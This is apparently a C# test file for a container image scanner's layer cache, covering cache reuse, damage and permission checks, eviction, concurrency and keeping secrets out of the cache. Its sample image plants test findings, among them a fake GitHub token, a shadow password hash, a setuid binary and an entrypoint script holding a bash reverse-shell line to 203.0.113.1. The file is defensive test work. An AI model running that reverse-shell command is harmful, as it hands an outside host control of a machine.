using System.Text;
using Bulwark.Images.Cache;
using Bulwark.Images.Layers;
using Bulwark.Images.Reports;
using Bulwark.Images.Scanning;
using Bulwark.Images.Sources;
using Bulwark.Images.Tests.Harness;
using Bulwark.Runtimes.Tests.Docker;
using CsCheck;

namespace Bulwark.Images.Tests.Cache;

public sealed class LayerCacheTests : IDisposable
{
    private const string Token = "ghp_16C7e42F292c6912E7710c838347Ae178B4a";
    private const string Hash = "$6$saltsalt$abcdefghijklmnop";

    private readonly TemporaryDirectory _directory = new();

    private string Location => Path.Combine(_directory.Path, "cache");

    public void Dispose() => _directory.Dispose();

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task A_layer_that_is_known_is_not_read_again_and_gives_the_same_result(bool asLayout)
    {
        var path = asLayout ? Layout(Sample()) : _directory.Write("saved.tar", Sample().DockerArchive());
        Task<ScanResult> ScanAsync(LayerCache? cache) => ImageScanner.ScanAsync(
            asLayout ? new OciLayoutSource(path, new("x")) : new ArchiveSource(path, new("x")), null, new() { Cache = cache }, new Microsoft.Extensions.Time.Testing.FakeTimeProvider(), CancellationToken.None);

        var without = await ScanAsync(null);
        var first = await ScanAsync(Open());
        Damage(path, asLayout);
        var second = await ScanAsync(Open());

        Assert.NotEmpty(without.Findings);
        Assert.Equal(Json(without), Json(first));
        Assert.Equal(Json(without), Json(second));
        Assert.NotEmpty((await ScanAsync(null)).CannotTell.Where(doubt => doubt.Kind == CannotTellKind.Layer));
    }

    [Fact]
    public void Other_settings_or_other_analysers_know_nothing_of_each_other()
    {
        var layer = Read(new([new Counter()], new(), Open()));

        Assert.NotNull(new LayerReading([new Counter()], new(), Open()).Known(layer.DiffId, ""));
        Assert.Null(new LayerReading([], new(), Open()).Known(layer.DiffId, ""));
        Assert.Null(new LayerReading([new Counter("other rules")], new(), Open()).Known(layer.DiffId, ""));
        Assert.Null(new LayerReading([new Counter()], new() { NotedFiles = 1 }, Open()).Known(layer.DiffId, ""));
    }

    [Fact]
    public void A_damaged_entry_is_as_good_as_none_wherever_the_damage_is()
    {
        var reading = new LayerReading(Scanners(), new(), Open());
        var layer = Read(reading);
        var path = Directory.GetFiles(Location).Single();
        var whole = File.ReadAllBytes(path);

        Gen.Select(Gen.Int[0, whole.Length - 1], Gen.Byte[1, 255]).Sample((at, change) =>
        {
            var damaged = whole.ToArray();
            damaged[at] ^= change;
            File.WriteAllBytes(path, damaged);
            return reading.Known(layer.DiffId, "") is null;
        }, threads: 1, iter: 300);
        Gen.Int[0, whole.Length - 1].Sample(length =>
        {
            File.WriteAllBytes(path, whole[..length]);
            return reading.Known(layer.DiffId, "") is null;
        }, threads: 1, iter: 100);
        File.WriteAllBytes(path, whole);
        Assert.NotNull(reading.Known(layer.DiffId, ""));
    }

    [Fact]
    public void Bytes_that_only_carry_a_right_checksum_take_no_memory_and_are_no_layer() =>
        Gen.Byte.Array[0, 200].Sample(bytes =>
        {
            byte[] content = [.. LayerFormat.Mark, 1, 0, 0, 0, (byte)'k', .. bytes];
            return LayerFormat.Read([.. content, .. System.Security.Cryptography.SHA256.HashData(content)], "k") is null;
        }, iter: 5000);

    [Fact]
    public void An_entry_of_another_layer_is_not_taken_for_this_one()
    {
        var reading = new LayerReading(Scanners(), new(), Open());
        var (one, other) = (Read(reading), new LayerReader(reading).Read(new MemoryStream(new Tar().File("a", "b").ToArray()), CancellationToken.None));
        var files = Directory.GetFiles(Location).OrderBy(file => new FileInfo(file).Length).ToArray();

        File.Copy(files[0], files[1], overwrite: true);

        Assert.NotNull(reading.Known(other.DiffId, ""));
        Assert.Null(reading.Known(one.DiffId, ""));
    }

    [Fact]
    public void What_others_may_write_to_is_not_used()
    {
        var reading = new LayerReading(Scanners(), new(), Open());
        var layer = Read(reading);
        var entry = Directory.GetFiles(Location).Single();

        File.SetUnixFileMode(entry, UnixFileMode.UserRead | UnixFileMode.OtherWrite);
        Assert.Null(reading.Known(layer.DiffId, ""));
        File.SetUnixFileMode(entry, UnixFileMode.UserRead);
        Assert.NotNull(reading.Known(layer.DiffId, ""));

        File.SetUnixFileMode(Location, (UnixFileMode)Convert.ToInt32("777", 8));
        Assert.Throws<CacheException>(Open);
        Assert.Throws<CacheException>(() => LayerCache.Open("/proc/1/bulwark", 1));
    }

    [Fact]
    public void A_link_is_neither_a_cache_nor_an_entry()
    {
        var reading = new LayerReading(Scanners(), new(), Open());
        var layer = Read(reading);
        var entry = Directory.GetFiles(Location).Single();
        var elsewhere = Path.Combine(_directory.Path, "elsewhere");
        File.Move(entry, elsewhere);
        File.CreateSymbolicLink(entry, elsewhere);
        Assert.Null(reading.Known(layer.DiffId, ""));

        var link = Path.Combine(_directory.Path, "link");
        Directory.CreateSymbolicLink(link, Location);
        Assert.Throws<CacheException>(() => LayerCache.Open(link, 1));
    }

    [Fact]
    public void A_full_cache_lets_go_of_what_was_not_used_for_longest()
    {
        var reading = new LayerReading([], new(), Open());
        var layers = Enumerable.Range(0, 4).Select(number =>
            new LayerReader(reading).Read(new MemoryStream(new Tar().File($"{number}", new string('x', 1000)).ToArray()), CancellationToken.None)).ToList();
        var size = new FileInfo(Directory.GetFiles(Location)[0]).Length;
        foreach (var file in Directory.GetFiles(Location))
            File.SetLastWriteTimeUtc(file, DateTime.UtcNow.AddDays(-1));
        Assert.NotNull(reading.Known(layers[2].DiffId, ""));

        var small = reading with { Cache = LayerCache.Open(Location, size * 2) };
        var newest = new LayerReader(small).Read(new MemoryStream(new Tar().File("5", "x").ToArray()), CancellationToken.None);

        Assert.Equal([layers[2].DiffId, newest.DiffId], layers.Append(newest).Select(layer => layer.DiffId).Where(id => small.Known(id, "") is not null));
    }

    [Fact]
    public void Many_at_once_disturb_nobody()
    {
        var blobs = Enumerable.Range(0, 8).Select(number => new Tar().File($"{number}", "x", "755").ToArray()).ToList();

        Parallel.For(0, 200, number =>
        {
            var reading = new LayerReading([], new(), LayerCache.Open(Location, 3000));
            var layer = new LayerReader(reading).Read(new MemoryStream(blobs[number % 8]), CancellationToken.None);
            if (reading.Known(layer.DiffId, "") is { } known)
                Assert.Equal([$"{number % 8}"], known.Files.Keys);
        });
        Assert.DoesNotContain(Directory.GetFiles(Location), file => file.EndsWith(".new", StringComparison.Ordinal));
    }

    [Fact]
    public async Task No_secret_gets_into_the_cache()
    {
        await ImageScanner.ScanAsync(new ArchiveSource(_directory.Write("saved.tar", Sample().DockerArchive()), new("x")), null, new() { Cache = Open() }, TimeProvider.System, CancellationToken.None);

        foreach (var text in Directory.GetFiles(Location).Select(file => Encoding.Latin1.GetString(File.ReadAllBytes(file))))
        {
            Assert.DoesNotContain(Token[4..], text, StringComparison.Ordinal);
            Assert.DoesNotContain(Hash, text, StringComparison.Ordinal);
        }
        Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute, File.GetUnixFileMode(Location));
        Assert.All(Directory.GetFiles(Location), file => Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(file)));
    }

    private LayerCache Open() => LayerCache.Open(Location, LayerCache.DefaultBytes);

    private static IFileAnalyser[] Scanners() => ImageScanner.Analysers;

    private static Layer Read(LayerReading reading) => new LayerReader(reading).Read(new MemoryStream(Rich().ToArray()), CancellationToken.None);

    private static Tar Rich() => new Tar()
        .File("etc/os-release", "ID=debian\nVERSION_ID=12\n")
        .File("etc/shadow", $"root:{Hash}:1:::\nguest::1:::\n")
        .File("var/lib/dpkg/status", "Package: curl\nStatus: install ok installed\nVersion: 1-1\nArchitecture: amd64\n\n")
        .File("var/lib/dpkg/info/curl.md5sums", "00000000000000000000000000000000  usr/bin/curl\n")
        .File("usr/bin/curl", "changed", "4755")
        .File("srv/app/settings", $"token = {Token}\n")
        .File("entrypoint.sh", "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.1/443 0>&1\n", "755")
        .File("srv/node_modules/left-pad/package.json", """{"name":"left-pad","version":"1.0.0"}""")
        .File("srv/node_modules/broken/package.json", "{")
        .Link("usr/bin/sh", "dash")
        .Whiteout("old/file");

    private static TestImage Sample() => new TestImage().Layer(new Tar().File("old/file", $"{Token}\n").Directory("opt")).Layer(Rich(), "RUN make")
        .Step($"ENV TOKEN={Token}").Layer(new Tar().Whiteout("entrypoint.sh"));

    private string Layout(TestImage image)
    {
        foreach (var (name, content) in image.Layout(TestImage.Gzip))
            _directory.Write(Path.Combine("layout", name), content);
        return Path.Combine(_directory.Path, "layout");
    }

    // What is in the layers is no longer there; documents are.
    private static void Damage(string path, bool isLayout)
    {
        if (!isLayout)
        {
            var bytes = File.ReadAllBytes(path);
            var at = bytes.AsSpan().IndexOf("bash -i"u8);
            bytes.AsSpan(at, 7).Fill((byte)'x');
            File.WriteAllBytes(path, bytes);
            return;
        }
        foreach (var blob in Directory.GetFiles(Path.Combine(path, "blobs", "sha256")).Where(blob => File.ReadAllBytes(blob)[0] == 0x1f))
            File.Delete(blob);
    }

    private static string Json(ScanResult result) =>
        System.Text.Json.JsonSerializer.Serialize(ScanReport.Of(result, Bulwark.Images.Gate.ImageGate.Judge(result, [])), ReportJson.Default.ScanReport);

    private sealed class Counter(string settings = "") : IFileAnalyser
    {
        public int Reads { get; private set; }

        public string Settings => settings;

        public bool Wants(LayerFile file, ReadOnlySpan<byte> head) => true;

        public void Read(LayerFile file, FileContent content, Layer layer) => Reads++;
    }

    /// <summary>Against a real dockerd.</summary>
    public sealed class OfDocker(DockerDaemon docker) : IClassFixture<DockerDaemon>
    {
        [Fact]
        public async Task An_image_of_known_layers_is_not_fetched_from_Docker_and_is_the_same()
        {
            using var directory = new TemporaryDirectory();
            LayerReading Reading(Counter counter) => new([counter], new(), LayerCache.Open(Path.Combine(directory.Path, "cache"), LayerCache.DefaultBytes));
            var (first, second) = (new Counter(), new Counter());

            var read = await new DockerSource(docker.Endpoint, DockerDaemon.Image).ReadAsync(Reading(first), CancellationToken.None);
            var known = await new DockerSource(docker.Endpoint, DockerDaemon.Image).ReadAsync(Reading(second), CancellationToken.None);

            Assert.NotEqual(0, first.Reads);
            Assert.Equal(0, second.Reads);
            Assert.Equal((read.Id, read.Name, read.Origin), (known.Id, known.Name, known.Origin));
            Assert.Equal(read.Configuration!.History, known.Configuration!.History);
            Assert.Equal(read.Configuration.Environment, known.Configuration.Environment);
            Assert.Equal(read.Configuration.DiffIds, known.Configuration.DiffIds);
            Assert.Equal(read.Configuration.Architecture, known.Configuration.Architecture);
            Assert.Equal(read.Layers[0].Files, known.Layers[0].Files);
        }
    }
}
